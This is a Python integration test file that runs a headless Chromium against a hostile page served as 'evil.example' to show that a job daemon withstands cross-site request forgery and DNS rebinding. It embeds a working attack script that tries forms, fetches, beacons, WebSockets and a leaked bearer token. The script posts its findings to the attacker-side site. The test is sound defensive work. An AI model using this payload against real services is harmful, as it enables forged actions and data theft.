"""P04, P05: what a page of another site can do to a daemon through the browser of somebody who is logged in here.

A real Chromium opens the page; whatever the page can try is tried with the daemon's own token, as if it had leaked.
"""

from __future__ import annotations

import json
import re
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, cast
from urllib.parse import urlsplit

import pytest

from tests.needed import program

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.integration.conftest import StartDaemon
    from tests.integration.daemon import Daemon

BROWSER_S = 60.0
"""A first start of Chromium on a busy machine takes some seconds."""
TASKS = """
from jobsvc import task

@task
def echo(x: str = "") -> str:
    return x
"""
EVIL = "evil.example"
SCRIPT = """
const target = %(target)s, token = %(token)s, id = %(id)s, seen = {};
const job = JSON.stringify({task: "echo", args: {x: "from the page"}});
const bearer = {Authorization: "Bearer " + token};

async function attempt(name, act) {
  try { seen[name] = await act(); } catch (error) { seen[name] = "refused: " + error.name; }
}
async function got(path, options) {
  const reply = await fetch(target + path, options);
  return reply.type === "opaque" ? "opaque" : "READ " + reply.status + " " + await reply.text();
}
function event(element, source) {
  return new Promise(done => {
    element.onload = element.onopen = element.onmessage = () => done("READ");
    element.onerror = () => done("refused");
    if (source) { element.src = source; document.body.append(element); }
  });
}
(async () => {
  const simple = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
  await attempt("simple post", () => got("/v1/jobs", {method: "POST", mode: "no-cors", headers: simple, body: job}));
  await attempt("typed post", () => got("/v1/jobs", {method: "POST", headers: {...json, ...bearer}, body: job}));
  for (const [method, body] of [["PUT", "{}"], ["PATCH", "{}"], ["DELETE", null], ["POST", "{}"]])
    await attempt(method, () => got("/v1/jobs/" + id, {method, headers: bearer, body}));
  await attempt("get with token", () => got("/v1/jobs", {headers: bearer}));
  await attempt("get", () => got("/v1/jobs"));
  await attempt("health", () => got("/livez"));
  await attempt("beacon", async () => String(navigator.sendBeacon(target + "/v1/jobs", job)));
  await attempt("image", () => event(new Image(), target + "/v1/jobs"));
  await attempt("script", () => event(document.createElement("script"), target + "/v1/jobs"));
  await attempt("event source", () => event(new EventSource(target + "/v1/jobs/" + id + "/events")));
  await attempt("web socket", () => event(new WebSocket(target.replace("http", "ws") + "/v1/jobs/" + id + "/ws")));
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: target + "/v1/jobs", enctype: "text/plain", target: "sink"});
  const field = Object.assign(document.createElement("input"), {name: '{"task":"echo","x":"', value: '"}'});
  form.append(field); document.body.append(form);
  const landed = new Promise(done => { document.querySelector("iframe").onload = done; });
  form.submit(); await landed;
  await attempt("iframe", async () => document.querySelector("iframe").contentDocument === null ? "opaque" : "READ");
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
"""


class OtherSite:
    """A site that serves the page, and is told by it what it has seen."""

    def __init__(self) -> None:
        self.script = ""
        self.report: dict[str, str] = {}
        self.reported = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = (
                    f"<!doctype html><body><iframe name=sink></iframe><script>{site.script}</script>".encode()
                )
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(204)
                self.end_headers()
                site.report = json.loads(body)
                site.reported.set()

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()
        self.port = self._server.server_port

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def other_site() -> Iterator[OtherSite]:
    site = OtherSite()
    yield site
    site.close()


def chromium(folder: Path, *words: str) -> list[str]:
    """The command of a browser with a profile of its own, for which the name of the other site is this machine."""
    return [
        program("chromium"), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", f"--user-data-dir={folder / 'profile'}", *words,
    ]  # fmt: skip


def refusals(daemon: Daemon) -> dict[str, int]:
    """Requests answered, by status."""
    found: dict[str, int] = {}
    for line in daemon.get("/metrics").text.splitlines():
        if match := re.match(r'jobsvc_http_requests_total\{.*status="(\d+)"\} (\d+)', line):
            found[match[1]] = found.get(match[1], 0) + int(match[2])
    return found


def test_a_page_of_another_site_changes_nothing_and_reads_nothing(
    start_daemon: StartDaemon, other_site: OtherSite, tmp_path: Path
) -> None:
    """P05: forms, fetches, beacons, images, scripts, event sources, web sockets; with and without the token."""
    daemon = start_daemon(TASKS)
    mine = daemon.submit("echo", "mine")["id"]
    before = refusals(daemon)
    words = {"target": daemon.url, "token": daemon.token, "id": mine}
    other_site.script = SCRIPT % {name: json.dumps(value) for name, value in words.items()}
    page = f"http://{EVIL}:{other_site.port}/"
    browser = subprocess.Popen(
        chromium(tmp_path, "--remote-debugging-port=0", page),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        process_group=0,
    )
    try:
        assert other_site.reported.wait(BROWSER_S), "the page has not reported"
    finally:
        browser.kill()
        browser.wait()
    seen = other_site.report
    assert len(seen) == 15, seen
    assert not {name: what for name, what in seen.items() if what.startswith("READ")}
    jobs = cast("list[dict[str, Any]]", daemon.get("/v1/jobs").json()["jobs"])
    assert [job["id"] for job in jobs] == [mine]
    after = refusals(daemon)
    assert after.get("403", 0) > before.get("403", 0), (
        after
    )  # the guard saw them: not the missing token alone
    assert after.get("201") == before.get("201") == 1


def test_a_name_that_is_bound_to_this_machine_anew_is_not_served(
    start_daemon: StartDaemon, tmp_path: Path
) -> None:
    """P04: the browser takes the daemon for a part of the other site; the daemon does not."""
    daemon = start_daemon(TASKS)
    url = f"http://{EVIL}:{urlsplit(daemon.url).port}/livez"
    done = subprocess.run(
        chromium(tmp_path, "--dump-dom", url), capture_output=True, text=True, timeout=BROWSER_S, check=True
    )
    assert '"code":"bad_host"' in done.stdout, done.stdout
    for method in ("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"):
        for agent in ("Mozilla/5.0", "curl/8"):
            reply = daemon.http.request(
                method, "/v1/jobs", headers={"Host": f"{EVIL}:8787", "User-Agent": agent}
            )
            assert reply.status_code == 421, (method, agent, reply.status_code)
    assert daemon.get("/v1/jobs").json()["jobs"] == []
